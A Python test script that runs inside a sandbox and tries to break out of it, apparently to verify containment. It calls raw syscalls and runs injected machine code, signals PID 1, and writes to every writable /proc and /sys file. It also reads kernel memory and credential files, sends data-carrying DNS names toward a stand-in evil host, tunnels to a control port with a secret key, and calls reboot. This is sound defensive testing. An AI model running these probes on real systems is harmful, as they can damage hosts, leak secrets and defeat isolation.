# SPDX-License-Identifier: Apache-2.0
"""Runs inside a sandbox and attacks what keeps it there.  Prints one JSON object: for each attack what it
got, which is a list that must be empty, or a word.

    sandbox_attacks.py CONTROL-PORT
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import pathlib
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

CONTROL = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
found = {}


def attack(function):
    try:
        result = function()
    except OSError as problem:
        result = errno.errorcode.get(problem.errno, str(problem))
    except Exception as problem:
        result = f"{type(problem).__name__}: {problem}"
    found[function.__name__.strip("_")] = result
    return function


def call(number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a
                                                   for a in args))
    return errno.errorcode.get(ctypes.get_errno(), "?") if result < 0 else f"done {result}"


# ---- sockets ----

@attack
def families():
    """Each family, each type, as one socket and as a pair: what could be made."""
    made = set()
    for family in range(64):
        for kind in range(1, 11):
            try:
                socket.socket(family, kind, 0).close()
                made.add(family)
            except OSError:
                pass
            pair = (ctypes.c_int * 2)()
            if libc.socketpair(family, kind, 0, pair) == 0:
                made.add(f"pair {family}")
                os.close(pair[0])
                os.close(pair[1])
    return sorted(map(str, made))


@attack
def protocols():
    """Of the internet families each type with each protocol number, flags of the type included."""
    made = set()
    for family in (socket.AF_INET, socket.AF_INET6):
        for kind in (1, 2, 3, 4, 5, 6, 10):
            for protocol in (*range(143), 255, 256, 262, 263):
                for flag in (0, socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK):
                    fd = libc.socket(family, kind | flag, protocol)
                    if fd >= 0:
                        made.add((kind, protocol))
                        os.close(fd)
    return sorted(made - {(1, 0), (1, 6), (2, 0), (2, 17)})


@attack
def netlink():
    made = []
    for protocol in range(1, 32):
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
            fd = libc.socket(16, kind, protocol)
            if fd >= 0:
                made.append(protocol)
                os.close(fd)
    return made


@attack
def socket_options():
    """What would take a socket out of its routes, or give it a forged address."""
    got = []
    with socket.socket() as one:
        for name, level, option, value in (
                ("mark", 1, 36, struct.pack("I", 1)), ("transparent", 0, 19, struct.pack("I", 1)),
                ("netns cookie", 1, 71, None), ("rcvbufforce", 1, 33, struct.pack("I", 1 << 30)),
                ("ulp", 6, 31, b"tls"), ("bind to host's device", 1, 25, b"eth0\0"),
                ("repair", 6, 19, struct.pack("I", 1))):
            try:
                if value is None:
                    continue
                one.setsockopt(level, option, value)
                got.append(name)
            except OSError:
                pass
    return got


# ---- calls ----

NEWER = range(463, 512)


@attack
def newer_calls():
    """Calls that are younger than the filter."""
    return [number for number in NEWER if call(number, 0, 0, 0, 0, 0, 0) != "ENOSYS"]


@attack
def x32():
    """The same calls by their numbers of the x32 ABI."""
    return [hex(n) for n in (272, 165, 101, 41, 321) if call(0x40000000 + n, 0, 0, 0) != "ENOSYS"]


@attack
def int80():
    """unshare, mount, ptrace, socketcall by the 32-bit gate."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\x53\x89\xf8\x31\xdb\x31\xc9\x31\xd2\xcd\x80\x5b\xc3")  # call number in edi
    run = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(
        ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return [number for number in (310, 21, 26, 102, 357) if run(number) != -errno.ENOSYS]


@attack
def mounts_the_new_way():
    return [name for name, said in (
        ("open_tree", call(428, -100, b"/", 1)), ("fsopen", call(430, b"tmpfs", 0)),
        ("move_mount", call(429, -100, b"/tmp", -100, b"/usr", 0)),
        ("mount_setattr", call(442, -100, b"/", 0, 0, 0)),
        ("fspick", call(433, -100, b"/", 0))) if said != "EPERM"]


@attack
def clone_flags():
    """Each flag of a new namespace, with what a thread or a fork has."""
    got = []
    for bit in (0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
        said = call(272, bit)
        if said != "EPERM":
            got.append(f"unshare {bit:x}")
        if bit == 0x80:
            continue
        pid = libc.syscall(56, bit | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            got.append(f"clone {bit:x}")
            os.waitpid(pid, 0)
    return got


@attack
def other_processes():
    """One's own child: another sandboxed process is no more open than that."""
    child = subprocess.Popen(["sleep", "5"])
    try:
        got = []
        if call(101, 16, child.pid, 0, 0) != "EPERM":
            got.append("ptrace attach")
        if call(101, 0x4206, child.pid, 0, 0) != "EPERM":
            got.append("ptrace seize")
        if call(310, child.pid, 0, 0, 0, 0, 0) != "EPERM":
            got.append("process_vm_readv")
        if call(438, os.pidfd_open(child.pid), 1, 0) != "EPERM":
            got.append("pidfd_getfd")
        return got
    finally:
        child.kill()
        child.wait()


# ---- signals ----

@attack
def signal_init():
    """The first process, by every signal: it passes some on to the command, and lives."""
    ignored = [signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1,
               signal.SIGUSR2]
    for one in ignored:
        signal.signal(one, signal.SIG_IGN)
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    time.sleep(0.1)
    return pathlib.Path("/proc/1/comm").read_text().strip() if os.getpid() != 1 else "we are"


# ---- files ----

@attack
def setuid_programs():
    """A program that would make us root: is it still just a program?"""
    tried = []
    for directory in ("/usr/bin", "/usr/sbin", "/usr/lib"):
        for entry in os.scandir(directory):
            try:
                if entry.is_file() and entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                    tried.append(entry.path)
            except OSError:
                pass
    with open("/proc/mounts") as mounts:
        loose = [line.split()[1] for line in mounts if "nosuid" not in line.split()[3].split(",")]
    return [*loose] if tried or loose else []


@attack
def writable_kernel_files():
    """All of /proc and /sys that may be written and is not of a process of ours."""
    got = []
    for top in ("/proc", "/sys"):
        for directory, below, files in os.walk(top):
            if directory == "/proc":
                below[:] = [name for name in below if not name.isdigit() and name not in (
                    "self", "thread-self")]
            if directory.count("/") > 8:
                below[:] = []
            for name in files:
                path = os.path.join(directory, name)
                try:
                    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    try:
                        os.write(fd, b"1")
                        got.append(path)
                    finally:
                        os.close(fd)
                except OSError:
                    pass
    return got


@attack
def secrets_of_the_kernel():
    got = []
    for path in ("/proc/kcore", "/proc/kmsg", "/proc/sysrq-trigger", "/dev/mem", "/dev/kmem", "/dev/kmsg",
                 "/dev/kvm", "/dev/userfaultfd", "/dev/fuse", "/dev/net/tun", "/dev/sda", "/dev/vda",
                 "/proc/1/mem", "/proc/1/maps", "/proc/1/environ", "/proc/1/auxv", "/proc/1/stack",
                 "/proc/1/syscall", "/proc/1/cwd", "/proc/1/root", "/proc/1/exe", "/proc/1/fd",
                 "/proc/1/map_files", "/proc/1/ns/net"):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            if os.path.isdir(path):
                os.listdir(fd)
            elif not path.endswith("exe"):
                os.read(fd, 1)
            got.append(path)
        except OSError:
            pass
    return got


@attack
def devices():
    """A device node of our own."""
    got = []
    for path in ("/tmp/d", "/dev/d", os.path.expanduser("~/d")):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            try:
                os.mknod(path, kind | 0o600, os.makedev(1, 1))
                got.append(path)
            except OSError:
                pass
    return got


@attack
def streams_again():
    """Our first three descriptors by way of /proc, with more rights than they were given."""
    got = []
    for fd in (0, 1, 2):
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            continue
        have = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        for flags in {os.O_RDONLY, os.O_WRONLY, os.O_RDWR} - {have}:
            try:
                os.close(os.open(f"/proc/self/fd/{fd}", flags))
                got.append((fd, have, flags))
            except OSError:
                pass
    return got


@attack
def out_of_the_root():
    """Up from where we stand, and from each descriptor."""
    got = []
    for up in ("..", "../" * 40, "/proc/self/root/..", "/proc/self/cwd/" + "../" * 40):
        if os.path.exists(os.path.join(up, "root", ".bashrc")) or os.path.exists(
                os.path.join(up, "var", "lib", "dpkg")):
            got.append(up)
    return got


@attack
def hard_links():
    got = []
    for source in ("/etc/passwd", "/usr/bin/env", "/run/keybrake/session-ca.pem", "/run/keybrake/cacerts"):
        for target in ("/tmp/link", os.path.expanduser("~/link")):
            try:
                os.link(source, target)
                got.append(source)
            except OSError:
                pass
    return got


@attack
def trusted_cas():
    """Another CA in the place of ours."""
    got = []
    for path in ("/etc/ssl/certs/ca-certificates.crt", "/run/keybrake/ca-certificates.pem",
                 "/etc/ssl/certs/java/cacerts", "/run/keybrake/cacerts", "/run/keybrake",
                 "/etc/resolv.conf", "/etc/hosts", "/etc/passwd"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            got.append(path)
        except OSError:
            pass
        try:
            os.chmod(path, 0o777)
            got.append(path + " mode")
        except OSError:
            pass
    return got


# ---- names: who answers for them is the sandbox's first process ----

def ask(message, udp=True):
    if udp:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(1)
            one.sendto(message, ("127.0.0.1", 53))
            return one.recv(65535)
    with socket.create_connection(("127.0.0.1", 53), 1) as one:
        one.sendall(struct.pack(">H", len(message)) + message)
        return one.recv(65535)


QUESTION = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0"


@attack
def names_that_carry_data():
    """A name that holds what is to be got out, of every type: an address of ours, or nothing."""
    said = set()
    label = b"\x3f" + b"a" * 63
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 48, 52, 64, 65, 99, 249, 250, 252, 255, 257):
        name = label * 3 + b"\x04evil\x07example\0"
        try:
            answer = ask(QUESTION + name + struct.pack(">HH", kind, 1), udp=kind != 252)
            answer = answer[2 if kind == 252 else 0:]
            said.add((answer[3] & 15, struct.unpack(">H", answer[6:8])[0]))
        except OSError:
            said.add("silence")
    return sorted(map(str, said))


@attack
def odd_questions():
    """Whatever is sent there: the next question is answered as ever."""
    junk = [b"", b"\0", b"\xff" * 12, b"\xff" * 512, b"\0" * 65000, QUESTION, QUESTION + b"\xc0\x0c\0\1\0\1",
            QUESTION + b"\x3f" * 600, QUESTION + b"\x01a" * 200 + b"\0\0\1\0\1",
            b"\x12\x34\x01\0\xff\xff\0\0\0\0\0\0" + b"\1a\0\0\1\0\1" * 60,
            b"\x12\x34\x29\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1", b"\x12\x34\x81\x80\0\1\0\0\0\0\0\0\1a\0\0\1\0\1"]
    for one in junk * 20:
        for udp in (True, False):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if udp else socket.SOCK_STREAM) as s:
                    s.connect(("127.0.0.1", 53))
                    s.send(one if udp else struct.pack(">H", len(one)) + one)
            except OSError:
                pass
    kept = []
    for _ in range(300):  # connections that say nothing, or half of a question
        try:
            one = socket.create_connection(("127.0.0.1", 53), 1)
            one.sendall(b"\0")
            kept.append(one)
        except OSError:
            pass
    return socket.gethostbyname("api.stripe.com")


# ---- the gate's socket ----

def hello(name, version=b"\x03\x01", more=b""):
    server = struct.pack(">BH", 0, len(name)) + name
    extension = struct.pack(">HH", 0, len(server) + 2) + struct.pack(">H", len(server)) + server + more
    body = (b"\x03\x03" + b"\0" * 32 + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\x01\0"
            + struct.pack(">H", len(extension)) + extension)
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16" + version + struct.pack(">H", len(message)) + message


@attack
def odd_tls_names():
    """First flights with names that are none: closed, or an alert; and the gate goes on."""
    said = set()
    for name in (b"", b"\0", b"a" * 300, b"a" * 60000, b"api.stripe.com\0.evil.example", b"API.STRIPE.COM.",
                 b"127.0.0.1", b"::1", b"*.stripe.com", b"api.stripe.com:443", b"../../etc/passwd",
                 b"\xff\xfe", b"localhost", b"keybrake.internal\r\nX: y", b"."):
        with socket.create_connection(("198.18.0.9", 443), 3) as one:
            one.settimeout(3)
            try:
                one.sendall(hello(name))
                answer = one.recv(1)
            except OSError as problem:
                answer = problem.__class__.__name__.encode()
            said.add({b"": "closed", b"\x15": "alert", b"\x16": "hello"}.get(answer, answer.decode("latin1")))
    return sorted(said)


@attack
def control_by_the_door():
    """The operator's API, as a host to be tunnelled to, by each way that the door knows."""
    key = os.environ["STRIPE_SECRET_KEY"]
    got = []
    for host in ("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433"):
        target = f"{host}:{CONTROL}"
        for request in (f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Bearer {key}\r\n\r\n",
                        f"GET http://{target}/healthz HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {key}\r\n\r\n",
                        f"GET /v1/keys HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {key}\r\n\r\n"):
            with socket.create_connection(("198.18.0.9", 80), 3) as one:
                one.settimeout(3)
                try:
                    one.sendall(request.encode())
                    answer = one.recv(4096).decode("latin1")
                    if request.startswith("CONNECT") and answer.split(" ")[1:2] == ["200"]:
                        one.sendall(f"GET /healthz HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
                        answer = one.recv(4096).decode("latin1")
                except OSError:
                    continue
                if answer.split(" ")[1:2] == ["200"]:
                    got.append(request.splitlines()[0])
    return got


@attack
def many_connections():
    """More than a session may have; afterwards it has some again."""
    kept = []
    for _ in range(600):
        try:
            kept.append(socket.create_connection(("198.18.0.9", 443), 1))
        except OSError:
            break
    for one in kept:
        one.close()
    time.sleep(0.2)
    with socket.create_connection(("198.18.0.9", 80), 3) as one:
        one.settimeout(5)
        one.sendall(b"GET / HTTP/1.1\r\nHost: x.example\r\n\r\n")
        return "keybrake" if b"keybrake" in one.recv(4096).lower() else "somebody else"


# ---- wearing it out ----

@attack
def memory_that_nobody_gave():
    """Locked, huge, hidden: what limits let."""
    got = []
    for name, number, args in (("mlockall", 151, (3,)), ("move_pages", 279, (0, 0, 0, 0, 0, 0)),
                               ("kcmp", 312, (1, 1, 0, 0, 0)), ("swapon", 167, (b"/tmp/x", 0)),
                               ("acct", 163, (b"/tmp/x",)), ("quotactl", 179, (0, 0, 0, 0)),
                               ("settimeofday", 164, (0, 0)), ("reboot", 169, (0xfee1dead, 672274793, 0)),
                               ("sethostname", 170, (b"x", 1)), ("iopl", 172, (3,)),
                               ("fanotify_init", 300, (0, 0)), ("name_to_handle_at", 303, (-100, b"/", 0, 0, 0)),
                               ("userfaultfd", 323, (1,)), ("pkey_alloc", 0, None)):
        if args is None or name == "mlockall":
            continue
        said = call(number, *args)
        if said.startswith("done"):
            got.append(name)
    return got



@attack
def interfaces():
    return sorted(os.listdir("/sys/class/net"))


found["alive"] = True
print(json.dumps(found))
